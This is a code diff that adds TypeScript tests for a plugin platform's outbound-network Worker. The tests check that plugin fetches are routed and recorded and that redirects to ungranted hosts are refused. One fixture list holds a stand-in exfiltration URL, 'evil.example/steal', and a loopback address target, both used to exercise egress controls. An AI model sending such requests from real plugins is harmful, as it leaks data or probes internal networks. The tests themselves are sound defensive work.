@@ -230,3 +230,85 @@ describe("dispatch-namespace backend", () => {
     ).rejects.toThrow(/^Worker not found/);
   });
 });
+
+describe("the stand-in namespace's outbound Worker", () => {
+  /** A plugin that fetches each URL and reports what came back, never throwing. */
+  const fetchEach = (urls: string[]) => `export default { async fetch(req) {
+    if (new URL(req.url).pathname.startsWith("/__atoll/")) return new Response(null, { status: 404 });
+    const out = [];
+    for (const url of ${JSON.stringify(urls)}) {
+      try {
+        const res = await fetch(url, { method: "POST", body: "x" });
+        out.push({ status: res.status, egress: res.headers.get("x-atoll-egress"), body: await res.text() });
+      } catch (err) { out.push({ error: String(err.message) }); }
+    }
+    return Response.json(out);
+  } };`;
+
+  async function installWith(
+    ns: DispatchNamespace,
+    source: string,
+    grants: string[],
+  ): Promise<{ a: Account; inst: { id: string; endpoint: string } }> {
+    const a = await publisher("ob");
+    const permissions = grants.filter((g) => g.startsWith("network:"));
+    const pub = await publishZip(a, rawPackage(a.slug, source, { permissions }));
+    const { plugin } = (await pub.json()) as { plugin: string };
+    const res = await app.request(
+      req(a, "/v1/installations", { method: "POST", json: { plugin, grants } }),
+      undefined,
+      dispatchEnv(ns),
+    );
+    expect(res.status).toBe(201);
+    return { a, inst: (await res.json()) as { id: string; endpoint: string } };
+  }
+
+  it("receives every plugin fetch as its own Worker, with the call's outbound parameters as its whole env", async () => {
+    // A recording outbound Worker in place of workers/outbound: what reaches it, with what env.
+    const recorder = {
+      id: `recorder-${crypto.randomUUID()}`,
+      compatibilityDate: "2026-11-01",
+      module: `export default { async fetch(req, env) {
+        return Response.json({ url: req.url, method: req.method, body: await req.text(), env }, { headers: { "x-outbound": "recorder" } });
+      } };`,
+    };
+    const { ns, calls } = standInDispatcher(undefined, recorder);
+    const urls = [
+      "https://evil.example/steal?x=1",
+      "http://127.0.0.1:1/",
+      "https://api.stripe.com/v1",
+    ];
+    const { a, inst } = await installWith(ns, fetchEach(urls), []);
+    const res = await app.request(req(a, `${inst.endpoint}/go`), undefined, dispatchEnv(ns));
+    const seen = (await res.json()) as { status: number; body: string }[];
+    // Not the local egress gate (it would refuse all three): the namespace's outbound Worker saw
+    // each, with exactly what the gateway passed as `outbound`, nothing of the platform's env.
+    expect(seen.map((s) => s.status)).toEqual([200, 200, 200]);
+    const env = { installationId: inst.id, hosts: "" };
+    expect(calls.at(-1)?.options.outbound).toEqual(env);
+    expect(seen.map((s) => JSON.parse(s.body) as unknown)).toEqual(
+      urls.map((url) => ({ url, method: "POST", body: "x", env })),
+    );
+  });
+
+  it("is workers/outbound by default: its refusal for a redirect off the grants, and the stand-in network behind it", async () => {
+    const { ns } = standInDispatcher();
+    const off = `https://api.stripe.com/__standin/redirect?to=${encodeURIComponent("https://hooks.slack.com/x")}`;
+    const { a, inst } = await installWith(
+      ns,
+      fetchEach([off, "https://api.stripe.com/v1/charges"]),
+      ["network:api.stripe.com"],
+    );
+    const res = await app.request(req(a, `${inst.endpoint}/go`), undefined, dispatchEnv(ns));
+    const [refused, stripe] = (await res.json()) as {
+      status: number;
+      egress: string;
+      body: string;
+    }[];
+    expect(refused).toMatchObject({ status: 403, egress: "refused" });
+    expect(refused?.body).toContain("hooks.slack.com is not granted");
+    // Granted: mapped to the Stripe stand-in, which answers in Stripe's words (no API key sent).
+    expect(stripe).toMatchObject({ status: 401, egress: null });
+    expect(stripe?.body).toContain("Invalid API Key");
+  });
+});
